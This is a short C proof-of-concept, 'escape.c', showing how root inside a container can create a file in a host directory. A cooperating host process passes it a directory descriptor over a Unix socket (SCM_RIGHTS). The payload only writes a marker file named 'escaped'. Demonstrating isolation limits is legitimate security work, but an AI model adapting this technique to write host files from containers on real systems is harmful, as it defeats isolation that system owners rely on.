/*
 * escape.c - root in a container and a shell on the host, brought together.
 *
 *   escape serve SOCKET     in the container, as root: waits for a directory,
 *                           and makes the file "escaped" in it
 *   escape give SOCKET DIR  on the host, as the same user: hands DIR over
 *
 * The way out of a container that no request shows (README, Limits).
 */
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>

#include <err.h>
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

struct parcel {
	char byte;
	struct iovec v;
	union {
		struct cmsghdr head;
		char space[CMSG_SPACE(sizeof(int))];
	} control;
	struct msghdr m;
};

static void
parcel_init(struct parcel *p)
{
	memset(p, 0, sizeof(*p));
	p->v = (struct iovec){ &p->byte, 1 };
	p->m = (struct msghdr){ .msg_iov = &p->v, .msg_iovlen = 1,
	    .msg_control = &p->control, .msg_controllen = sizeof(p->control) };
}

static int
serve(int s, const struct sockaddr_un *at)
{
	struct parcel p;
	int dir, peer, fd;

	parcel_init(&p);
	(void)umask(0);
	(void)unlink(at->sun_path);
	if (bind(s, (const struct sockaddr *)at, sizeof(*at)) == -1 ||
	    listen(s, 1) == -1 || (peer = accept(s, NULL, NULL)) == -1 ||
	    recvmsg(peer, &p.m, 0) != 1)
		err(1, "serve");
	memcpy(&dir, CMSG_DATA(&p.control.head), sizeof(dir));
	fd = openat(dir, "escaped", O_CREAT | O_WRONLY, 0600);
	if (fd == -1)
		err(1, "openat");
	return 0;
}

static int
give(int s, const struct sockaddr_un *at, const char *path)
{
	int dir = open(path, O_RDONLY | O_DIRECTORY);
	struct parcel p;

	parcel_init(&p);
	if (dir == -1 || connect(s, (const struct sockaddr *)at,
	    sizeof(*at)) == -1)
		err(1, "give");
	p.control.head = (struct cmsghdr){ .cmsg_len = CMSG_LEN(sizeof(dir)),
	    .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS };
	memcpy(CMSG_DATA(&p.control.head), &dir, sizeof(dir));
	if (sendmsg(s, &p.m, 0) != 1)
		err(1, "sendmsg");
	return 0;
}

int
main(int argc, char **argv)
{
	struct sockaddr_un at = { .sun_family = AF_UNIX };
	int s = socket(AF_UNIX, SOCK_STREAM, 0);

	if (argc < 3 || strlen(argv[2]) >= sizeof(at.sun_path) || s == -1)
		errx(2, "usage: escape serve SOCKET | give SOCKET DIR");
	strcpy(at.sun_path, argv[2]);
	return argc > 3 ? give(s, &at, argv[3]) : serve(s, &at);
}
